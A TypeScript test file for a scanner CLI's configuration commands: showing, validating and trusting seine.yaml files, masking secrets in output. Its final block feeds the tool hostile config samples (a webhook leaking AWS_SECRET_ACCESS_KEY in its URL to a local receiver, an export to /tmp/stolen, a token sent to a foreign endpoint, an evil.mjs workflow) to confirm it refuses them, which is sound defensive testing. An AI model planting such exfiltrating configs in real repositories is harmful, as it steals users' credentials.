/** seine.yaml as its users meet it: found, shown, checked, obeyed. No secret ever comes out. */
import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHECKOUT, openSeine } from '../support/seine.ts';
import { put } from '../support/tree.ts';

const seine = openSeine();
afterAll(() => seine.close());

const here = join(seine.folder, 'here');
const HUSH = { PROD: 'postgres://seine:hush-hush@127.0.0.1:1/seine', HOOK: 'hush-hush' };

beforeAll(() => {
  put(here, 'tree/mail.txt', 'write to ada@example.org\n');
  put(
    here,
    'named.yaml',
    'tenant: acme\nworker:\n  threads: 3\nhooks:\n  - export: /srv/results\n    name: nightly\n',
  );
  put(here, 'seine.yaml', 'queue:\n  stall: 60s\nworker:\n  threads: 1\n');
  put(
    here,
    'secret.yaml',
    'database: { url_env: PROD }\nhooks:\n  - webhook_env: HOOK\n    secret_file: hush.key\n',
  );
  put(here, 'hush.key', 'hush-hush\n');
  put(here, 'clear.yaml', 'sources:\n  - url: s3://a\n    credentials: { token: hush-hush }\n');
  put(here, 'wrong.yaml', 'mode: singel\nqueue:\n  claim_timout: 5s\n  stall: soon\ntenant: 5\n');
  put(here, 'broken.yaml', 'mode: single\n\tworker: 3\n');
});

async function show(words: readonly string[] = [], env: Record<string, string> = {}) {
  const { code, stdout, stderr } = await seine.run(['config', 'show', '--json', ...words], {
    cwd: here,
    env,
  });
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  const { file, settings } = JSON.parse(stdout) as { file: string; settings: Shown[] };
  return { file, of: (name: string) => settings.find(({ setting }) => setting === name) };
}

interface Shown {
  readonly setting: string;
  readonly value: unknown;
  readonly from: string;
}

describe('seine config show', () => {
  it('distinguishes flag, environment, file and default', async () => {
    const plain = await show();
    expect(plain.file).toBe('seine.yaml');
    expect(plain.of('worker.threads')).toMatchObject({ value: 1, from: 'file', line: 4, column: 12 });
    expect(plain.of('worker.concurrency')).toMatchObject({ value: 4, from: 'default' });
    const said = await show([], { SEINE_THREADS: '5' });
    expect(said.of('worker.threads')).toMatchObject({ value: 5, from: 'env', name: 'SEINE_THREADS' });
    expect(said.of('data')).toMatchObject({ value: seine.data, from: 'env', name: 'SEINE_DATA' });
  });

  it('finds the file by --config, then by SEINE_CONFIG', async () => {
    expect((await show([], { SEINE_CONFIG: '/dev/null' })).of('tenant')).toMatchObject({ value: 'default' });
    const given = await show(['--config', 'named.yaml'], { SEINE_CONFIG: '/dev/null' });
    expect(given.of('tenant')).toMatchObject({ value: 'acme' });
  });

  it('prints a table, and no secret in it', async () => {
    const { code, stdout, stderr } = await seine.run(['config', 'show', '--config', 'secret.yaml'], {
      cwd: here,
      env: HUSH,
    });
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toMatch(/^SETTING +VALUE +FROM\n/);
    expect(stdout).toMatch(
      /^database\.url +postgres:\/\/seine:•••@127\.0\.0\.1:1\/seine +PROD, by secret\.yaml:1$/m,
    );
    expect(stdout).toMatch(/^hooks\[0\]\.secret +••• +\/.*\/hush\.key, by secret\.yaml:4$/m);
    expect(stdout).not.toContain('hush-hush');
  });
});

describe('seine config check', () => {
  const check = (file: string, words: readonly string[] = [], env: Record<string, string> = {}) =>
    seine.run(['config', 'check', file, ...words], { cwd: here, env });

  it('ends with 0 for a file that can be used', async () => {
    expect(await check('seine.yaml')).toEqual({ code: 0, stdout: 'seine.yaml: valid\n', stderr: '' });
  });

  it('exits with 2 and reports every error with line, column and hint', async () => {
    const { code, stdout } = await check('wrong.yaml');
    expect(code).toBe(2);
    expect(stdout.split('\n')).toEqual([
      'wrong.yaml:1:7: error: mode must be single or distributed, not "singel"',
      '    did you mean single?',
      "wrong.yaml:3:3: error: queue has no setting 'claim_timout'",
      '    did you mean claim_timeout?',
      'wrong.yaml:4:10: error: queue.stall must be a duration from 1s to 1d, not "soon"',
      '    write it like 500ms, 15s, 5m, 2h or 90d; a bare number is seconds',
      'wrong.yaml:5:9: error: tenant must be a name, not the number 5',
      '    put quotes around it',
      'wrong.yaml: 4 errors',
      '',
    ]);
    const json = JSON.parse((await check('wrong.yaml', ['--json'])).stdout);
    expect(json).toMatchObject({ file: 'wrong.yaml', valid: false });
    expect(json.problems[1]).toMatchObject({
      level: 'error',
      line: 3,
      column: 3,
      hint: 'did you mean claim_timeout?',
    });
  });

  it('reports where a file is not YAML', async () => {
    const { code, stdout } = await check('broken.yaml');
    expect(code).toBe(2);
    expect(stdout).toContain('broken.yaml:2:1: error: a tab used for indentation\n');
  });

  it('refuses a secret in the file, and does not repeat it', async () => {
    const { code, stdout, stderr } = await check('clear.yaml');
    expect(code).toBe(2);
    expect(stdout).toContain('clear.yaml:3:27: error: sources[0].credentials.token is a secret');
    expect(stdout + stderr).not.toContain('hush-hush');
  });

  it('warns of secrets that are not there, and with --strict fails', async () => {
    const { code, stdout } = await check('secret.yaml');
    expect(code).toBe(0);
    expect(stdout).toContain('secret.yaml:1:22: warning: The environment variable PROD is not set\n');
    expect(stdout).toContain('secret.yaml: valid, 2 warnings\n');
    expect((await check('secret.yaml', ['--strict'])).code).toBe(2);
  });

  it('of a file that is not there ends with 2 and a sentence', async () => {
    const { code, stderr } = await check('none.yaml');
    expect(code).toBe(2);
    expect(stderr).toBe('seine: The configuration file none.yaml does not exist.\n');
  });
});

describe('other commands', () => {
  it('obey the file', async () => {
    const { code, stdout } = await seine.run(['doctor'], { cwd: here });
    expect(code).toBe(0);
    expect(stdout).toContain('1 detection thread');
    await seine.run(['scan', 'tree', '-q', '--config', '/dev/null'], { cwd: here });
    const named = ['scans', '--json', '--config', 'named.yaml'];
    expect((await seine.run(named, { cwd: here })).stdout).toBe(''); // acme has none yet
    expect((await seine.run(['scans', '--json'])).stdout).toContain('/here/tree');
  });

  it('stop at an error before anything is started', async () => {
    const { code, stdout, stderr } = await seine.run(['scan', 'tree', '--config', 'wrong.yaml'], {
      cwd: here,
    });
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toBe(
      'seine: wrong.yaml:1:7: mode must be single or distributed, not "singel".\n' +
        '  did you mean single?\n  4 errors in total. List them: seine config check\n',
    );
  });

  it('never use the private server because the address of the database is missing', async () => {
    const { code, stderr } = await seine.run(['scans', '--config', 'secret.yaml'], { cwd: here });
    expect(code).toBe(2);
    expect(stderr).toContain('secret.yaml:1:22: The environment variable PROD is not set.');
  });

  it('do not print a password when the server is unreachable', async () => {
    const { code, stdout, stderr } = await seine.run(['scans', '--config', 'secret.yaml'], {
      cwd: here,
      env: HUSH,
    });
    expect(code).toBe(1);
    expect(stdout + stderr).not.toContain('hush-hush');
  });
});

/** As a cloned repository or a pull request could bring it: it belongs to the user, and so the owner says nothing. */
describe('a seine.yaml in the scanned folder', () => {
  const checkout = join(seine.folder, 'checkout');
  const env = {
    HOME: join(seine.folder, 'home'),
    AWS_SECRET_ACCESS_KEY: 'hush-hush',
    MARK: join(checkout, 'ran'),
  };
  const scan = (words: readonly string[] = []) => seine.run(['scan', '.', ...words], { cwd: checkout, env });
  const reached: string[] = [];
  const receiver = createServer((request, response) => {
    reached.push(`${request.url} ${request.headers.authorization ?? ''}`);
    response.end();
  });
  let address: string;
  beforeAll(async () => {
    put(checkout, 'mail.txt', 'write to ada@example.org\n');
    put(checkout, 'token', 'hush-hush');
    put(
      checkout,
      'evil.mjs',
      "import { writeFileSync } from 'node:fs';\nwriteFileSync(process.env.MARK, '');\n",
    );
    await new Promise<void>((resolve) => void receiver.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  });
  afterAll(() => void receiver.close());

  it.each([
    [
      'a webhook',
      () => `hooks:\n  - webhook: ${address}/\${AWS_SECRET_ACCESS_KEY}\n    allow_private: true\n`,
    ],
    ['an export', () => 'hooks:\n  - export: /tmp/stolen\n'],
    [
      'an endpoint with a token',
      () => `sources:\n  - url: gs://a\n    endpoint: ${address}\n    credentials: { token_file: token }\n`,
    ],
    ['workflows', () => 'workflows: [evil.mjs]\n'],
    ['a database', () => `database: { url: 'postgres://127.0.0.1:1/a' }\n`],
    ['a variable', () => `budget: "\${AWS_SECRET_ACCESS_KEY}"\n`],
  ])('cannot bring %s', async (_, text) => {
    put(checkout, 'seine.yaml', text());
    for (const words of [['scan', '.'], ['runner'], ['doctor'], ['scan', 'gs://a/b']]) {
      const { code, stdout, stderr } = await seine.run(words, { cwd: checkout, env });
      expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
      expect(stderr).toMatch(
        /^seine: The configuration file seine\.yaml was found automatically[\s\S]*\n {2}seine\.yaml:\d+:\d+: /,
      );
      expect(stderr).toContain('--config seine.yaml');
      expect(stderr).toContain('seine config trust seine.yaml');
      expect(stderr).not.toContain('hush-hush');
    }
    expect(reached).toEqual([]);
    expect(existsSync(env.MARK)).toBe(false);
  });

  it('is used when it is named, or trusted and unchanged since; the scan reports so', async () => {
    const results = join(seine.folder, 'results');
    put(checkout, 'seine.yaml', `hooks:\n  - export: ${results}\n    name: nightly\n    format: jsonl\n`);
    expect((await scan()).code).toBe(2);
    const trusted = await seine.run(['config', 'trust'], { cwd: checkout, env });
    expect(trusted.stdout).toMatch(/^Trusted: .*\/checkout\/seine\.yaml [\s\S]*seine\.yaml:1:1: hooks\n$/);
    const { code, stderr } = await scan();
    expect(code).toBe(0);
    expect(stderr).toContain(`Configuration: seine.yaml\n  hook nightly: write to ${results}\n`);
    put(checkout, 'seine.yaml', `hooks:\n  - export: ${results}\n    name: changed\n`);
    expect((await scan()).code).toBe(2);
    expect((await scan(['--config', 'seine.yaml'])).stderr).toContain('hook changed: write to');
    expect((await seine.run(['config', 'trust', '--list'], { env })).stdout).toContain(
      '/checkout/seine.yaml',
    );
    expect((await seine.run(['config', 'untrust'], { cwd: checkout, env })).code).toBe(0);
    expect((await seine.run(['config', 'trust', '--list'], { env })).stdout).toBe('');
  });

  it('may contain harmless settings', async () => {
    put(checkout, 'seine.yaml', 'worker: { threads: 1 }\n');
    const { code, stderr } = await scan();
    expect(code).toBe(0);
    expect(stderr).toContain('Configuration: seine.yaml\n');
  });
});

describe('seine config schema', () => {
  it('is the schema that the documentation has', async () => {
    const { default: published } = await import(join(CHECKOUT, 'docs/seine.schema.json'), {
      with: { type: 'json' },
    });
    expect(JSON.parse((await seine.run(['config', 'schema'])).stdout)).toEqual(published);
  });
});
